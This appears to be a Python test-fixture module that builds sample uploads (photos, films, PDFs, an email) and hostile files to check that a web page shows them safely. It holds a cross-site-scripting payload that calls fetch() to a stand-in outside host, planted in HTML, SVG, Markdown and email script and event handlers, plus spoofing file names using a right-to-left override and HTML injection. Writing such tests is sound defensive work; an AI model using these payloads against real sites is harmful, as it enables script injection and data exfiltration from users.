"""Files as people and strangers have them, for a page to show: pictures, films, letters, and names that would be code.

Whatever could run sets a mark (`canary`) where a test sees it, and calls a server that nobody may call.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

from tests.journeys.web.written_pdf import pdf

OUTSIDE = "http://outside.example.test"
ATTACK = f"try{{top.canary=1}}catch(e){{}};globalThis.canary=1;fetch('{OUTSIDE}/told')"
EMOJI = "Holiday \N{PALM TREE}\N{FAMILY}.txt"
TURNED = "invoice \N{RIGHT-TO-LEFT OVERRIDE}fdp.exe"
MARKUP = '<img src=x onerror="globalThis.canary=1">.txt'
LONG = "\N{LATIN SMALL LETTER E WITH ACUTE}" * 125 + "x.txt"
"""As many bytes as a name may have: 255."""
HOSTILE_NAMES = (EMOJI, TURNED, MARKUP, LONG)

_HTML = f"""<!doctype html><title>x</title><script>{ATTACK}</script><link rel=stylesheet href={OUTSIDE}/s.css>
<body onload="{ATTACK}"><img src="{OUTSIDE}/i.png" onerror="{ATTACK}"><p>Dear reader</p></body>"""


def photographs(folder: Path, count: int = 6) -> None:
    """JPEG and WebP, each of another colour."""
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(count):
        _ffmpeg(folder / f"summer-{number:02}.jpg", "-f", "lavfi", "-i", _picture(number), "-frames:v", "1")
    _ffmpeg(folder / "winter.webp", "-f", "lavfi", "-i", _picture(9), "-frames:v", "1")


def films(folder: Path, seconds: int = 20) -> None:
    """The index of the film is at its end, so whoever plays it has to ask for a part."""
    folder.mkdir(parents=True, exist_ok=True)
    picture = ("-f", "lavfi", "-i", f"testsrc2=duration={seconds}:size=320x180:rate=12")
    _ffmpeg(folder / "walk.mp4", *picture, "-pix_fmt", "yuv420p", "-preset", "ultrafast", "-b:v", "2M")
    _ffmpeg(folder / "song.mp3", "-f", "lavfi", "-i", f"sine=duration={seconds}", "-b:a", "64k")


def papers(folder: Path, long_text: int = 3 << 20) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "three.pdf").write_bytes(pdf(3))
    (folder / "handbook.pdf").write_bytes(pdf(800))
    (folder / "empty.txt").write_bytes(b"")
    (folder / "log.txt").write_bytes(b"The quick brown fox jumps over the lazy dog\n" * (long_text // 44))
    (folder / "notes.md").write_text(
        f"# Notes of today\n\n<script>{ATTACK}</script>\n\n![x]({OUTSIDE}/m.png) and *words*\n"
    )
    (folder / "report.txt").write_text("What was seen in the summer.\n")


def strange_things(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "page.html").write_text(_HTML)
    (folder / "drawing.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="{ATTACK}">'
        f'<script>{ATTACK}</script><rect width="90" height="60" fill="teal"/></svg>'
    )
    (folder / "letter.eml").write_text(_letter())
    for name in HOSTILE_NAMES:
        (folder / name).write_text(f"named {name}")


def _letter() -> str:
    return "\r\n".join(
        [
            "From: Ana <ana@example.test>", "To: Bo <bo@example.test>", "Subject: The quarterly report",
            "Date: Mon, 16 Feb 2026 09:22:00 +0000", "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="m"',
            "", "--m", "Content-Type: text/html; charset=utf-8", "", _HTML, "--m",
            'Content-Type: text/plain; name="figures.txt"', 'Content-Disposition: attachment; filename="figures.txt"',
            "", "1 2 3", "--m--", "",
        ]
    )  # fmt: skip


def _picture(number: int) -> str:
    return f"testsrc2=size=640x400,hue=h={number * 40}"


def _ffmpeg(to: Path, *arguments: str) -> None:
    subprocess.run(["ffmpeg", "-loglevel", "error", "-y", *arguments, str(to)], check=True, stdin=subprocess.DEVNULL)
